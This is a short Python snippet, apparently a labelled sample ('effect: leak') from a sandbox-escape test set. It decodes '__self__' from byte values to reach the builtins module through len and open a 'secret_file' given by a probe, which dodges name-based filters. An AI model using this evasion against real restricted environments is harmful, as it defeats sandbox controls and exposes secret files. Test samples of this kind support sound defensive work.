# effect: leak
def attempt(probe):
    name = bytes([95, 95, 115, 101, 108, 102, 95, 95]).decode("ascii")
    return getattr(len, name).open(probe["secret_file"]).read()
